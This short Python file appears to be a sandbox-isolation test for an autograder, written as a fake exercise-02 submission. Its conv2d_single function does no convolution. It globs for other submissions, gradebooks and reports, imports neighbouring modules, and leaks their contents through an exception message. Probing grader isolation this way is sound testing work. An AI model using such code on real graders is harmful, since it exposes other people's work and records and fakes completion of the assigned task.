# attack: reads the submissions of others, and the reports and grade books that lie around
# exercise: 02
# gains: nothing
# says: no neighbour
# holds: the folder of a submission cannot be seen from inside
import glob
import importlib
import os
import sys

CANARIES = []


def conv2d_single(image, kernel, stride=1, padding=0):
    folders = {os.path.dirname(path) for path in CANARIES} | {".", "..", os.path.dirname(os.path.abspath(__file__))}
    found = []
    for folder in folders:
        for pattern in ("*", "*.py", "*/*.py", "**/02_*.py", "gradebook*", "*.json", "*.ipynb", "../*"):
            for path in glob.glob(os.path.join(folder, pattern), recursive=True):
                try:
                    with open(path) as file:
                        found.append(file.read(200))
                except OSError:
                    continue
        sys.path.insert(0, folder)
        for name in ("neighbour", "02_manual_conv", "conftest"):
            try:
                found.append(str(vars(importlib.import_module(name))))
            except BaseException:
                continue
    raise RuntimeError(" ".join(found)[:250] or "no " + "neighbour")
